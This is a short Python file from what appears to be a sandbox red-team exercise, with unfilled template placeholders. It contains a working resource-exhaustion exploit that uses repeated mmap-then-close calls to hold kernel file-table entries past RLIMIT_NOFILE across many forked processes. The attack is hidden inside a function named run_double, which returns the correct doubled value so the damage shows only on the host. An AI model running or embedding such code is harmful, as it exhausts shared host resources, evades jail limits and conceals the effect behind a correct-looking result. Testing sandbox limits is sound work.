"""Hold open files past RLIMIT_NOFILE (red team round 10): open, mmap, close, again, in @@PROCS@@ processes.

Each mapping keeps its file in the kernel's table with no descriptor left; vm.max_map_count (65,530) bounds one
process, pids.max the processes, and nothing bounds the jail as a whole but the memory its files cost, which the
kernel charges to the jail's memory cgroup. The first call tries @@PROCS@@ x 65,000 files, more than the jail's
memory could pay for at FILE_COST bytes a file; it answers right whatever happens, so only the host's table says.
"""
import ctypes
import mmap
import os

_done = []


def _hold(path, n):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    for _ in range(n):
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError:
            return
        addr = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, fd, 0)
        os.close(fd)
        if addr in (None, ctypes.c_void_p(-1).value):
            return


def run_double(x):
    if not _done:
        _done.append(1)
        kids = []
        for _ in range(@@PROCS@@):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                _hold(__file__, 65_000)
                os._exit(0)
            kids.append(pid)
        for pid in kids:
            os.waitpid(pid, 0)
    return 2 * x
